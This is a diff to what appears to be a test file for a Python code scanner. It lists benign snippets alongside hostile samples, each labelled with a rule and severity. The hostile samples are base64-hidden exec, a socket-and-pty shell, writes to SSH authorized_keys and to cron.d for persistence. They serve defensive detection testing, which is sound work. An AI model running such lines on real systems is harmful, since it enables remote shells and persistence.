@@ -17,6 +17,7 @@ ORDINARY = [
     "model.eval()\ndf.eval('a + b')\n",
     "import os\nos.environ['X'] = '1'\nos.makedirs('/tmp/x', exist_ok=True)\n",
     "x = [1, 2, 3][::-1]\n",
+    "import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 0)\n",
 ]
 TOLD = [
     ("import base64\nexec(base64.b64decode('aWQ='))", "python-hidden-code", "critical", False),
@@ -46,7 +47,7 @@ TOLD = [
         "critical",
         False,
     ),
-    ("import pty, socket\nsocket.create_connection(('x', 1))\npty.spawn('sh')", "code-shell", "critical", False),
+    ("import pty, socket\ns = socket.create_connection(('x', 1))\npty.spawn('sh')", "code-shell", "critical", False),
     ("open('/root/.ssh/authorized_keys', 'a').write('k')", "python-persistence", "high", False),
     ("open('/etc/cron.d/x', mode='w')", "python-persistence", "high", False),
     ("import subprocess\nsubprocess.check_call(['pip', 'install', 'x'])", "python-process", "medium", True),
